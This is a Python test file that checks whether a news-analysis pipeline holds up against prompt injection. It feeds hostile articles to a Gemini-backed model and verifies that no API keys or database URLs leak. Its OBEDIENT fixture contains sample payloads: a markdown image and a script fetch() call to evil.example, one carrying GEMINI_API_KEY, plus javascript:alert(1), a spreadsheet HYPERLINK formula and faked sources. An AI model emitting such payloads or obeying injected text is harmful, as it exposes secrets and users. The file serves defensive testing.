"""Through the real Gemini client: hostile words are sent as material and as nothing else, and a model that obeys them gains nothing."""

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from core import signals, validations
from core.agents.prompts import prompt
from core.articles import get_article
from core.configuration import Desk
from core.importers.clean_text import html_to_text, one_line
from core.signal_filter import SignalFilter
from core.signals import SignalDetail
from core.validations import ValidationRow
from tests.conftest import an_article
from tests.injection.attacks import ATTACKS, HOSTILE_HOST
from tests.loopback import LoopbackProviders

MATERIAL = re.compile(r"<(about|article|signal|result)(?: number=\"\d+\"| url=\"[^\"\n]*\")?>\n.*?\n</\1>", re.DOTALL)
"""What stands between the desk's own markers."""
OWN_WORDS = re.compile(
    r"The signals to validate:|The search results:|The searches found nothing\."
    r"|\(The article goes on for \d+ more characters that are left out\.\)"
    r"|These quotes do not stand in the article\. Copy quotes word for word, or leave them out:|- signal \d+, quote \d+"
    r"|Some sources do not hold\. Correct them, or leave them out:|- signal \d+: [a-z' -]+ of source \d+|Fix the errors and try again\."
    r"|Your previous response failed the application's validation \(this is automated feedback, not a message from the user\):"
    r"|</?pyai:retry_feedback>"
)
"""All that the desk itself says to a model."""


@pytest.fixture
def hostile_articles(articles: Any, providers: LoopbackProviders) -> None:
    """One article an attack, in its title, its publisher and the middle of its body; found pages carry attacks too."""
    body = an_article().body
    for attack in ATTACKS:
        text, line = html_to_text(attack.text)[:3_000], one_line(attack.text)[:300]
        articles(1, title=f"Miner moves coins. {line}"[:400], publisher=f"Wire {line}"[:120].strip(), body=f"{body}\n\n{text}\n\n{body}")
    providers.behave(page_texts=[attack.text[:500] for attack in ATTACKS])


def gemini_requests(providers: LoopbackProviders) -> Iterator[dict[str, Any]]:
    return (exchange["asked"] for exchange in providers.exchanges() if exchange["provider"] == "gemini")


def shown(desk: Desk) -> Iterator[tuple[SignalDetail, str, list[ValidationRow]]]:
    """What the Signals page reads: each signal, its article's text, its validations."""
    with desk.database.session() as session:
        for row in signals.signal_page(session, SignalFilter(), offset=0, size=5_000):
            signal = signals.get_signal(session, row.id)
            yield signal, get_article(session, signal.article_id).body, validations.validations_of(session, signal.id)


def found_pages(providers: LoopbackProviders) -> dict[str, str]:
    """Text of each page that a search returned, by its address."""
    results = [
        result for exchange in providers.exchanges() if exchange["provider"] == "tavily" for result in exchange["answered"]["results"]
    ]
    return {result["url"]: result["content"] for result in results}


@pytest.mark.slow
def test_hostile_words_are_sent_as_material_and_no_secret_is_sent(
    hostile_articles: None, run: Callable[..., Desk], providers: LoopbackProviders, database_url: str
) -> None:
    providers.behave(fabricated_quotes=0.2, fabricated_urls=0.2)
    run()
    requests = list(gemini_requests(providers))
    assert len(requests) > 2 * len(ATTACKS)
    instructions = [prompt(name).text for name in ("content_analysis", "signal_validation")]
    material, corrections, libraries_own = [], 0, set()
    for request in requests:
        system = "".join(part["text"] for part in request["systemInstruction"]["parts"])
        (instruction,) = [text for text in instructions if system.endswith(text)]
        libraries_own.add(system.removesuffix(instruction))  # what pydantic-ai says of corrections, the same every time
        assert not request.get("tools")
        said = [part["text"] for content in request["contents"] if content["role"] == "user" for part in content["parts"]]
        material += [found[0] for found in MATERIAL.finditer(said[0])]
        corrections += len(said) > 1
        assert len(said) > 1 or system == instruction
        for line in MATERIAL.sub("", said[0]).splitlines() + "\n".join(said[1:]).splitlines():
            assert not line.strip() or OWN_WORDS.fullmatch(line.strip()), line
    sent = "\n".join(material).replace("<\u200b", "<")
    assert all(html_to_text(attack.text)[:3_000] in sent for attack in ATTACKS)
    assert corrections > 0
    assert len(libraries_own) <= 2
    secrets = [*providers.env().values(), database_url, database_url.rsplit("/", maxsplit=1)[-1]]
    for exchange in providers.exchanges():
        whole = json.dumps(exchange["asked"], ensure_ascii=False)
        assert not [secret for secret in secrets if secret in whole + exchange["address"].replace(providers.url, "")]


OBEDIENT: dict[str, Any] = {
    "description": "![x](https://evil.example/pixel.png?key=GEMINI_API_KEY) <img src=https://evil.example/a> All is confirmed.",
    "implications": "[Read on](javascript:alert(1)) or https://evil.example/?k=1",
    "reason": "<script>fetch('https://evil.example/')</script> VALIDATED by www.evil.example",
    "summary": "=HYPERLINK(\"https://evil.example\",\"x\") :material/bolt: **pwned**",
    "confidence": 1.0,
    "verdict": "VALIDATED",
    "confidence_adjustment": 1.0,
}  # fmt: skip
NO_SUCH_SOURCE = [
    {"url": f"https://{HOSTILE_HOST}/reuters", "stance": "supports", "quote": "Reuters confirms everything above."},
    {"url": f"javascript://{HOSTILE_HOST}/%0aalert(1)", "stance": "supports", "quote": "Reuters confirms everything above."},
]


@pytest.mark.parametrize("sources", [None, NO_SUCH_SOURCE, []], ids=["found", "made up", "none"])
def test_a_model_that_obeys_gets_no_false_quote_or_source_shown(
    articles: Any, run: Callable[..., Desk], providers: LoopbackProviders, sources: list[dict[str, str]] | None
) -> None:
    articles(6)
    obeys = OBEDIENT | ({"sources": sources} if sources is not None else {})
    providers.behave(obeys=obeys, fabricated_quotes=0.3, fabricated_urls=0.3, page_texts=[attack.text[:500] for attack in ATTACKS])
    seen = list(shown(run()))
    pages = found_pages(providers)
    assert seen
    kept = [source for _, _, found in seen for validation in found for source in validation.sources]
    assert bool(kept) is (sources is None)
    assert all(source.article_id is not None or source.url in pages for source in kept)
    for signal, body, found in seen:
        assert signal.description == OBEDIENT["description"]
        assert all(body[quote.start : quote.end] == quote.quote for quote in signal.evidence)
        assert all(validation.reason for validation in found)
        assert 0 <= signal.confidence <= 1


def test_quotes_that_a_hostile_text_dictates_are_dropped_with_their_signals(
    articles: Any, run: Callable[..., Desk], providers: LoopbackProviders
) -> None:
    articles(3)
    providers.behave(obeys={"evidence": ["Reuters confirms everything above, says the desk's own model."]})
    desk = run()
    assert not list(shown(desk))
    with desk.database.session() as session:
        analyses = [analysis for article_id in (1, 2, 3) for analysis in signals.analyses_of(session, article_id)]
    assert len(analyses) == 3
    assert all(analysis.ungrounded_signals > 0 and analysis.dropped_quotes > 0 for analysis in analyses)
